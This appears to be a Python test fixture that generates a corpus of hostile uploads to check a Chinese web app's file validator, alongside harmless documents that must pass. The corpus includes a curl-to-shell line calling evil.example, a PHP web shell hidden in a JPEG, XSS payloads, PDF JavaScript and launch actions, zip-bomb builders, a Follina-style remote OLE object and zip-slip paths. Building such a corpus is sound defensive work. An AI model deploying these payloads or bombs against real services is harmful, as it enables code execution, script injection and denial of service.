"""The hostile upload corpus (issue 8), made in code: no binary file is committed.

``hostile_corpus()`` returns the cases; each has a name, the file name as the client sends
it, the bytes, why it must be refused and the words of the refusal the person must see.
``harmless_files()`` are real documents and pictures that must still pass: a check that
refuses everything would pass the corpus too.

The corpus assumes the upload limit ``CORPUS_UPLOAD_LIMIT`` (tests set
``RENCAI_MAX_UPLOAD_BYTES`` to it), so the oversized file costs one megabyte, not twenty.
The zip bombs unpack to 300 MB each; they are built from one flushed deflate block repeated,
so building them costs milliseconds and a few hundred kilobytes."""

import functools
import io
import struct
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

from PIL import Image

from tests.test_materials import ole_bytes

CORPUS_UPLOAD_LIMIT = 1024 * 1024
BOMB_BYTES = 300 * 1024 * 1024  # what each zip bomb really unpacks to (over the 200 MB cap)
TEMPLATES = Path(__file__).resolve().parents[2] / "policies" / "templates" / "agency"


@dataclass(frozen=True)
class Case:
    name: str  # the case, for test ids and reports
    filename: str  # as the client sends it (may hold "/", NUL, control characters)
    content: bytes
    why: str  # why it must be refused
    message: str  # words of the Chinese refusal the person must see

    @property
    def extension(self) -> str:
        return self.filename.rsplit(".", 1)[-1].lower() if "." in self.filename else ""


# --------------------------------------------------------------------------- builders


def picture(fmt: str, size=(24, 16)) -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", size, (30, 120, 200)).save(buf, fmt)
    return buf.getvalue()


def pdf(*objects: bytes, trailer: bytes = b"/Root 1 0 R") -> bytes:
    """A small PDF: a catalog, an empty page tree, the given objects (numbered from 3)."""
    body = [b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"]
    body.append(b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n")
    for number, obj in enumerate(objects, start=3):
        body.append(b"%d 0 obj\n%s\nendobj\n" % (number, obj))
    return (
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
        + b"".join(body)
        + b"trailer\n<< "
        + trailer
        + b" >>\n%%EOF\n"
    )


def pdf_with_catalog(catalog_extra: bytes, *objects: bytes) -> bytes:
    data = pdf(*objects)
    return data.replace(
        b"/Type /Catalog /Pages 2 0 R", b"/Type /Catalog /Pages 2 0 R " + catalog_extra
    )


def object_stream(*objects: bytes) -> bytes:
    """An /ObjStm holding ``objects`` (numbered from 10), deflated."""
    offsets, parts, pos = [], [], 0
    for number, obj in enumerate(objects, start=10):
        offsets.append(b"%d %d" % (number, pos))
        parts.append(obj + b"\n")
        pos += len(obj) + 1
    index = b" ".join(offsets) + b"\n"
    packed = zlib.compress(index + b"".join(parts))
    return (
        b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(objects), len(index), len(packed))
        + packed
        + b"\nendstream"
    )


def zip_of(members: dict[str, bytes], compression=zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as archive:
        for member, data in members.items():
            archive.writestr(member, data)
    return buf.getvalue()


CONTENT_TYPES_XML = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
    b'package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    b'officedocument.wordprocessingml.document.main+xml"/></Types>'
)
RELS = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
    b'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
    b'officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
    b"</Relationships>"
)
DOCUMENT = '<?xml version="1.0"?><w:document><w:body>劳动合同</w:body></w:document>'.encode()


def relationships(kind: str, target: str, mode: str = "External") -> bytes:
    return (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        '2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/'
        f'officeDocument/2006/relationships/{kind}" Target="{target}" TargetMode="{mode}"/>'
        "</Relationships>"
    ).encode()


def docx(extra: dict[str, bytes] | None = None, content_types: bytes = CONTENT_TYPES_XML) -> bytes:
    members = {
        "[Content_Types].xml": content_types,
        "_rels/.rels": RELS,
        "word/document.xml": DOCUMENT,
    }
    members.update(extra or {})
    return zip_of(members)


def xlsx(extra: dict[str, bytes] | None = None) -> bytes:
    members = {
        "[Content_Types].xml": CONTENT_TYPES_XML.replace(
            b"/word/document.xml", b"/xl/workbook.xml"
        ),
        "_rels/.rels": RELS.replace(b"word/document.xml", b"xl/workbook.xml"),
        "xl/workbook.xml": b'<?xml version="1.0"?><workbook/>',
    }
    members.update(extra or {})
    return zip_of(members)


@functools.lru_cache(maxsize=1)
def _zeros_deflated(total: int) -> tuple[bytes, int]:
    """(raw deflate stream of ``total`` zero bytes, its CRC-32), built from one 1 MiB block
    compressed once with a full flush and repeated: identical blocks, valid when joined."""
    mib = 1024 * 1024
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(bytes(mib)) + compressor.flush(zlib.Z_FULL_FLUSH)
    tail = compressor.flush()
    crc = 0
    chunk = bytes(mib)
    for _ in range(total // mib):
        crc = zlib.crc32(chunk, crc)
    return block * (total // mib) + tail, crc


_LOCAL = struct.Struct("<4s5H3L2H")  # local file header
_CENTRAL = struct.Struct("<4s6H3L5H2L")  # central directory entry
_END = struct.Struct("<4s4H2LH")  # end of central directory


def _zip_with_raw_member(
    parts: dict[str, bytes], member: str, stream: bytes, crc: int, declared: int
) -> bytes:
    """A docx whose ``member`` carries a ready-made deflate ``stream`` and says, in its local
    header and in the central directory alike, that it unpacks to ``declared`` bytes."""
    out = io.BytesIO()
    entries = []
    for name, data in [*parts.items(), (member, None)]:
        encoded = name.encode()
        if data is None:
            compressed, size, checksum = stream, declared, crc
        else:
            deflater = zlib.compressobj(9, zlib.DEFLATED, -15)
            compressed = deflater.compress(data) + deflater.flush()
            size, checksum = len(data), zlib.crc32(data)
        offset = out.tell()
        header = _LOCAL.pack(
            b"PK\x03\x04", 20, 0, 8, 0, 0, checksum, len(compressed), size, len(encoded), 0
        )
        out.write(header + encoded + compressed)
        entries.append((encoded, checksum, len(compressed), size, offset))
    directory_at = out.tell()
    for encoded, checksum, compressed_size, size, offset in entries:
        fields = (20, 20, 0, 8, 0, 0, checksum, compressed_size, size, len(encoded))
        out.write(_CENTRAL.pack(b"PK\x01\x02", *fields, 0, 0, 0, 0, 0, offset) + encoded)
    directory_size = out.tell() - directory_at
    count = len(entries)
    out.write(_END.pack(b"PK\x05\x06", 0, 0, count, count, directory_size, directory_at, 0))
    return out.getvalue()


def _ooxml_parts(kind: str) -> dict[str, bytes]:
    if kind == "docx":
        return {"[Content_Types].xml": CONTENT_TYPES_XML, "_rels/.rels": RELS}
    return {
        "[Content_Types].xml": CONTENT_TYPES_XML.replace(
            b"/word/document.xml", b"/xl/workbook.xml"
        ),
        "_rels/.rels": RELS.replace(b"word/document.xml", b"xl/workbook.xml"),
    }


def honest_bomb() -> bytes:
    """A docx whose directory says truthfully that one part unpacks to 300 MB of zeros."""
    stream, crc = _zeros_deflated(BOMB_BYTES)
    return _zip_with_raw_member(_ooxml_parts("docx"), "word/document.xml", stream, crc, BOMB_BYTES)


def lying_bomb(kind: str = "docx") -> bytes:
    """A docx/xlsx whose part unpacks to 300 MB of zeros while its local header and central
    directory both say 1 KiB, with the CRC of that first KiB: a reader that trusts the
    directory stops after 1 KiB and finds nothing wrong; one that inflates to the end of the
    stream unpacks 300 MB."""
    stream, _crc = _zeros_deflated(BOMB_BYTES)
    member = "word/document.xml" if kind == "docx" else "xl/workbook.xml"
    return _zip_with_raw_member(_ooxml_parts(kind), member, stream, zlib.crc32(bytes(1024)), 1024)


def overlapping_bomb() -> bytes:
    """A non-recursive zip bomb (overlapping entries): many directory entries point at the
    same local data, each under its own name."""
    data = bytearray(docx())
    eocd = data.rfind(b"PK\x05\x06")
    entries, directory_at = (
        struct.unpack_from("<H", data, eocd + 10)[0],
        struct.unpack_from("<L", data, eocd + 16)[0],
    )
    first = data.find(b"PK\x01\x02", directory_at)
    name_len, extra_len, comment_len = struct.unpack_from("<3H", data, first + 28)
    template = bytes(data[first : first + 46 + name_len + extra_len + comment_len])
    copies = []
    for i in range(200):
        entry = bytearray(template[:46]) + f"word/copy{i:03d}.xml".encode()
        struct.pack_into("<3H", entry, 28, len(entry) - 46, 0, 0)
        copies.append(bytes(entry))
    directory = bytes(data[directory_at:eocd]) + b"".join(copies)
    end = bytearray(data[eocd : eocd + 22])
    count = entries + len(copies)
    struct.pack_into("<2H2L", end, 8, count, count, len(directory), directory_at)
    return bytes(data[:directory_at]) + directory + bytes(end)


def jpeg_with_comment(comment: bytes) -> bytes:
    data = picture("JPEG")
    segment = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment
    return data[:2] + segment + data[2:]


def jar() -> bytes:
    return zip_of(
        {
            "META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\r\nMain-Class: Evil\r\n\r\n",
            "Evil.class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(64),
        }
    )


PE = b"MZ\x90\x00\x03" + bytes(55) + struct.pack("<I", 64) + b"PE\x00\x00\x4c\x01" + bytes(200)
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00" + bytes(200)
MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00\x02\x00\x00\x00" + bytes(200)
SHELL = b"#!/bin/sh\ncurl -s http://evil.example/x | sh\n"
BATCH = b"@echo off\r\npowershell -enc SQBFAFgA\r\n"
HTML = b"<!DOCTYPE html><html><body><script>fetch('/accounts/me/')</script></body></html>"
SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)">'
    b"<script>alert(1)</script></svg>"
)


# --------------------------------------------------------------------------- the corpus

MISMATCH = "内容与扩展名 .{ext} 不符"
DAMAGED = "不完整或已损坏"
ACTIVE = "含有会自动运行的脚本、程序或附件"
SCRIPT = "夹带了网页或脚本代码"
APPENDED_ZIP = "末尾附带了一个压缩包"
MACROS = "含有宏（VBA 代码）"
PROGRAM = "内部夹带了程序文件"
LIES = "实际大小与其声明的不符"


def _mismatch(ext: str) -> str:
    return MISMATCH.format(ext=ext)


@functools.lru_cache(maxsize=1)
def hostile_corpus() -> tuple[Case, ...]:
    good_pdf = pdf()
    gif = picture("GIF")
    cases = [
        # --- programs in disguise
        Case("pe_as_pdf", "申请表.pdf", PE, "a Windows program named .pdf", _mismatch("pdf")),
        Case("elf_as_jpg", "照片.jpg", ELF, "a Linux program named .jpg", _mismatch("jpg")),
        Case("macho_as_png", "证书.png", MACHO, "a macOS program named .png", _mismatch("png")),
        Case("shell_as_pdf", "合同.pdf", SHELL, "a shell script named .pdf", _mismatch("pdf")),
        Case("batch_as_xlsx", "名单.xlsx", BATCH, "a batch file named .xlsx", _mismatch("xlsx")),
        Case(
            "jar_as_docx", "劳动合同.docx", jar(), "a Java archive named .docx", _mismatch("docx")
        ),
        Case("exe", "setup.exe", PE, "a program with its own extension", "格式不能上传"),
        Case(
            "double_extension",
            "毕业证书.pdf.exe",
            PE,
            "an .exe whose name shows .pdf where extensions are hidden",
            "实际是 .exe 文件",
        ),
        # --- pages and pictures with script
        Case("html_as_pdf", "通知.pdf", HTML, "an HTML page named .pdf", _mismatch("pdf")),
        Case("html_as_jpg", "照片.jpg", HTML, "an HTML page named .jpg", _mismatch("jpg")),
        Case("svg_as_png", "证书.png", SVG, "an SVG with script named .png", _mismatch("png")),
        Case("svg", "图标.svg", SVG, "SVG runs script when opened in a browser", "格式不能上传"),
        Case("html", "页面.html", HTML, "HTML runs script when opened", "格式不能上传"),
        Case(
            "png_then_html",
            "证书.png",
            picture("PNG") + b"<html><script>alert(1)</script></html>",
            "a real PNG followed by a page that a sniffing browser would run",
            SCRIPT,
        ),
        Case(
            "jpeg_comment_script",
            "照片.jpg",
            jpeg_with_comment(b"<script>alert(document.domain)</script>"),
            "a real JPEG carrying script in its comment segment",
            SCRIPT,
        ),
        Case(
            "jpeg_comment_php",
            "头像.jpg",
            jpeg_with_comment(b"<?php system($_GET['c']); ?>"),
            "a real JPEG carrying a PHP web shell",
            SCRIPT,
        ),
        Case(
            "gif_js_polyglot",
            "动图.gif",
            b"GIF89a/*\x00\x00\x00\x00*/=alert(1);//" + gif[6:],
            "a GIF whose header is also JavaScript",
            "同时是一段脚本",
        ),
        # --- two files in one
        Case(
            "gifar",
            "动图.gif",
            gif + jar(),
            "a GIF with a Java archive appended (GIFAR)",
            APPENDED_ZIP,
        ),
        Case(
            "jpeg_zip",
            "照片.jpg",
            picture("JPEG") + jar(),
            "a JPEG with an archive appended",
            APPENDED_ZIP,
        ),
        Case(
            "pdf_zip",
            "申请表.pdf",
            good_pdf + jar(),
            "a PDF with an archive appended",
            APPENDED_ZIP,
        ),
        Case(
            "pdf_html_after_eof",
            "申请表.pdf",
            good_pdf + HTML,
            "a PDF followed by an HTML page",
            SCRIPT,
        ),
        Case(
            "pdf_openaction_javascript",
            "申请表.pdf",
            pdf_with_catalog(b"/OpenAction 3 0 R", b"<< /S /JavaScript /JS (app.alert(1)) >>"),
            "a PDF that runs JavaScript when opened",
            ACTIVE,
        ),
        Case(
            "pdf_launch",
            "申请表.pdf",
            pdf_with_catalog(b"/OpenAction 3 0 R", b"<< /S /Launch /F (cmd.exe) >>"),
            "a PDF that starts a program when opened",
            ACTIVE,
        ),
        Case(
            "pdf_javascript_hex_escaped",
            "申请表.pdf",
            pdf_with_catalog(b"/OpenAction 3 0 R", b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"),
            "JavaScript spelt with #xx escapes to slip past a plain search",
            ACTIVE,
        ),
        Case(
            "pdf_javascript_in_object_stream",
            "申请表.pdf",
            pdf_with_catalog(
                b"/OpenAction 10 0 R",
                object_stream(b"<< /S /JavaScript /JS (app.alert(1)) >>"),
            ),
            "JavaScript inside a compressed object stream, invisible in the raw bytes",
            ACTIVE,
        ),
        Case(
            "pdf_embedded_file",
            "申请表.pdf",
            pdf(b"<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\x90\x00\nendstream"),
            "a PDF carrying a file (a program) to be opened from it",
            ACTIVE,
        ),
        Case(
            "pdf_uri_javascript",
            "申请表.pdf",
            pdf(b"<< /S /URI /URI (javascript:alert(document.cookie)) >>"),
            "a link that runs script in the reader's browser",
            SCRIPT,
        ),
        # --- archives: bombs, macros, programs, paths, remote content
        Case(
            "docx_bomb_honest",
            "劳动合同.docx",
            honest_bomb(),
            "a docx that says it unpacks to 300 MB (over the 200 MB cap)",
            "解压后超过 200 MB",
        ),
        Case(
            "docx_bomb_lying",
            "劳动合同.docx",
            lying_bomb("docx"),
            "a docx that says 1 KiB and unpacks to 300 MB",
            LIES,
        ),
        Case(
            "xlsx_bomb_lying",
            "社保.xlsx",
            lying_bomb("xlsx"),
            "an xlsx that says 1 KiB and unpacks to 300 MB",
            LIES,
        ),
        Case(
            "docx_overlapping_entries",
            "劳动合同.docx",
            overlapping_bomb(),
            "200 directory entries sharing one part's data (non-recursive zip bomb)",
            DAMAGED,
        ),
        Case(
            "docx_macros",
            "劳动合同.docx",
            docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(60)}),
            "a Word document with a VBA project",
            MACROS,
        ),
        Case(
            "docm_renamed",
            "劳动合同.docx",
            docx(
                content_types=CONTENT_TYPES_XML.replace(
                    b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml"
                )
            ),
            "a macro-enabled .docm renamed to .docx",
            MACROS,
        ),
        Case(
            "doc_macros",
            "表格.doc",
            ole_bytes("WordDocument", "Macros", "_VBA_PROJECT"),
            "a Word 97-2003 document with macros",
            MACROS,
        ),
        Case(
            "docx_with_program",
            "劳动合同.docx",
            docx({"word/embeddings/setup.exe": PE}),
            "a docx carrying a program",
            PROGRAM,
        ),
        Case(
            "docx_jar_polyglot",
            "劳动合同.docx",
            docx(
                {"META-INF/MANIFEST.MF": b"Main-Class: Evil\r\n", "Evil.class": b"\xca\xfe\xba\xbe"}
            ),
            "a docx that Java also runs as a JAR",
            PROGRAM,
        ),
        Case(
            "docx_member_traversal",
            "劳动合同.docx",
            docx({"../../../../tmp/evil.xml": b"<x/>"}),
            "a part whose name climbs out of the folder it is unpacked into (zip slip)",
            "内部含有不安全的路径",
        ),
        Case(
            "docx_member_absolute",
            "劳动合同.docx",
            docx({"/etc/cron.d/evil": b"* * * * * root sh"}),
            "a part with an absolute path",
            "内部含有不安全的路径",
        ),
        Case(
            "docx_remote_template",
            "劳动合同.docx",
            docx(
                {
                    "word/_rels/settings.xml.rels": relationships(
                        "attachedTemplate", "http://evil.example/t.dotm"
                    )
                }
            ),
            "a docx that fetches a template (and its macros) from the internet when opened",
            "从外部网址加载模板或对象",
        ),
        Case(
            "docx_follina_ole_object",
            "劳动合同.docx",
            docx(
                {
                    "word/_rels/document.xml.rels": relationships(
                        "oleObject",
                        "&#109;html:http://evil.example/x.html!x-usc:http://evil.example/x.html",
                    )
                }
            ),
            "an OLE object fetched over the network (CVE-2022-30190), the scheme hidden as &#109;",
            "从外部网址加载模板或对象",
        ),
        # --- size and emptiness
        Case(
            "oversize",
            "扫描件.pdf",
            good_pdf + b"%" + bytes(CORPUS_UPLOAD_LIMIT - len(good_pdf)),
            "one byte over the upload limit",
            "超过了 1 MB 的上限",
        ),
        Case("empty", "空文件.pdf", b"", "an empty file", "是空文件"),
        Case(
            "pdf_header_only",
            "扫描件.pdf",
            b"%PDF-1.7\n" + bytes(2048),
            "magic bytes, then zeros",
            DAMAGED,
        ),
        Case(
            "png_header_only",
            "证书.png",
            b"\x89PNG\r\n\x1a\n" + bytes(2048),
            "magic bytes, then zeros",
            DAMAGED,
        ),
        Case(
            "jpeg_header_only",
            "照片.jpg",
            b"\xff\xd8\xff" + bytes(2048),
            "magic bytes, then zeros",
            DAMAGED,
        ),
        Case(
            "doc_header_only",
            "表格.doc",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096),
            "magic bytes, then zeros",
            DAMAGED,
        ),
        Case(
            "docx_header_only",
            "合同.docx",
            b"PK\x03\x04" + bytes(2048),
            "magic bytes, then zeros",
            _mismatch("docx"),
        ),
        # --- names no browser sends (each with a good PDF: the name alone is refused)
        Case(
            "name_traversal", "../../etc/passwd.pdf", good_pdf, "a path that climbs out", "带有路径"
        ),
        Case("name_absolute", "/etc/passwd.pdf", good_pdf, "an absolute path", "带有路径"),
        Case(
            "name_windows_path",
            "C:\\Windows\\System32\\证书.pdf",
            good_pdf,
            "a Windows path with backslashes",
            "带有路径",
        ),
        Case(
            "name_escaped_traversal",
            "..&#47;..&#47;etc&#47;证书.pdf",
            good_pdf,
            "slashes as HTML entities, which Django's parser unescapes",
            "带有路径",
        ),
        Case(
            "name_nul",
            "证书.pdf\x00.exe",
            good_pdf,
            "a NUL byte that cuts the name",
            "不可见的控制字符",
        ),
        Case(
            "name_control",
            "证书\x1b[31m.pdf",
            good_pdf,
            "a terminal escape sequence",
            "不可见的控制字符",
        ),
        Case(
            "name_rtl_override",
            "证书\u202efdp.exe.pdf",
            good_pdf,
            "a right-to-left override that shows a false extension",
            "不可见的控制字符",
        ),
        Case(
            "name_markup",
            "<img src=x onerror=alert(1)>.pdf",
            good_pdf,
            "markup in the name, for any page that forgets to escape it",
            "不允许的字符",
        ),
        Case(
            "name_300_characters",
            "长" * 300 + ".pdf",
            good_pdf,
            "a 304-character name",
            "文件名过长",
        ),
        Case("name_only_dots", "...", good_pdf, "a name of dots only", "无效"),
        Case("name_dot_dot", "..", good_pdf, "the parent directory as a name", "无效"),
        Case("name_extension_only", ".pdf", good_pdf, "a hidden file with no name", "无效"),
    ]
    names = [case.name for case in cases]
    assert len(names) == len(set(names)), "case names must be unique"
    return tuple(cases)


# --------------------------------------------------------------------------- harmless files


def _pdf_with_benign_open_action() -> bytes:
    """Opens at the first page, fitted: the /OpenAction most real PDFs carry."""
    return pdf_with_catalog(b"/OpenAction [2 0 R /Fit]")


def _pdf_with_plain_object_stream() -> bytes:
    return pdf(object_stream("<< /Title (毕业证书) /Producer (scanner) >>".encode(), b"[1 2 3]"))


def _docx_with_hyperlink_and_local_template() -> bytes:
    """A link to a web page, and the template on the author's own computer: both fine."""
    return docx(
        {
            "word/_rels/document.xml.rels": relationships("hyperlink", "https://www.gov.cn/"),
            "word/_rels/settings.xml.rels": relationships(
                "attachedTemplate", "file:///C:/Users/zhang/模板/公文.dotx"
            ),
            "word/media/image1.png": picture("PNG"),
        }
    )


def harmless_files() -> list[tuple[str, bytes]]:
    """Real documents and pictures (made by reportlab, openpyxl, xlsxwriter, Pillow, and
    the blank forms of the policy packs) that the checks must let through."""
    import xlsxwriter

    from rencai.cms.demo import demo_pdf_bytes, demo_xlsx_bytes

    buf = io.BytesIO()
    book = xlsxwriter.Workbook(buf, {"in_memory": True})
    book.add_worksheet("名单").write(0, 0, "姓名")
    book.close()
    files = [
        ("申请表（reportlab）.pdf", demo_pdf_bytes()),
        ("花名册（openpyxl）.xlsx", demo_xlsx_bytes()),
        ("名单（xlsxwriter）.xlsx", buf.getvalue()),
        ("打开即适合页面.pdf", _pdf_with_benign_open_action()),
        ("对象流.pdf", _pdf_with_plain_object_stream()),
        ("带链接的合同.docx", _docx_with_hyperlink_and_local_template()),
        ("旧版表格.xls", ole_bytes("Workbook")),
        ("旧版文档.doc", ole_bytes("WordDocument", "1Table")),
        ("照片.jpg", picture("JPEG", (640, 480))),
        ("证书 扫描件 (2).png", picture("PNG", (800, 600))),
        ("动图.gif", picture("GIF")),
        ("位图.bmp", picture("BMP")),
        ("名" * 96 + ".pdf", pdf()),  # 100 characters: the longest name allowed
        ("example.com.report.v2.pdf", pdf()),  # dots inside a name are fine
    ]
    files += [(path.name, path.read_bytes()) for path in sorted(TEMPLATES.glob("*.docx"))]
    return files
